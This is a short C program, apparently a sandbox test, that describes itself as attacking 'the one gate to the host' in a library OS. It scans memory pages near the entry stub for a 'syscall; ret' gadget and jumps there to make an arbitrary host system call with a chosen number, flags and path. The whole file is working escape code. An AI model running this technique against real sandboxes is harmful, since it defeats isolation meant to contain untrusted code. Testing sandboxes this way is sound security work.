// Attacks the one gate to the host: finds it in the library OS's code and jumps there with a number of its own choice, and
// with a third argument and a path when they are given: gate NUMBER [FLAGS PATH].
#include "guest.h"

static volatile unsigned char *find_gate(unsigned char *from)
{
    // The gate is `syscall; ret`. Whole pages around the entry stub are searched until one cannot be read.
    for (int direction = -1; direction <= 1; direction += 2) {
        unsigned char *page = (unsigned char *)((uintptr_t)from & ~4095UL);
        if (direction > 0) page += 4096;
        for (;; page += direction * 4096) {
            if (sigsetjmp(probe_return, 1)) break;
            for (int i = 0; i < 4096 - 2; i++) if (page[i] == 0x0f && page[i + 1] == 0x05 && page[i + 2] == 0xc3) return page + i;
        }
    }
    return NULL;
}

int main(int argc, char **argv)
{
    probes_on();
    unsigned char *entry = NULL;
    if (sigsetjmp(probe_return, 1) == 0) __asm__ volatile("movq %%gs:0, %0" : "=r"(entry));
    if (!entry) { puts("no library OS here"); return 1; }
    volatile unsigned char *gate = find_gate(entry);
    printf("gate found %d\n", gate != NULL);
    fflush(stdout);
    if (!gate) return 2;
    long result, number = atol(argv[1]), flags = argc > 3 ? strtol(argv[2], NULL, 0) : 0;
    long first = argc > 3 ? AT_FDCWD : 2, second = argc > 3 ? (long)argv[3] : 1;
    __asm__ volatile("mov %2, %%rax\nxor %%r10d, %%r10d\ncall *%1\nmov %%rax, %0" : "=r"(result) : "b"(gate), "r"(number), "D"(first), "S"(second), "d"(flags) : "rax", "rcx", "r10", "r11", "memory");
    printf("the host answered %ld\n", result);
    return 0;
}
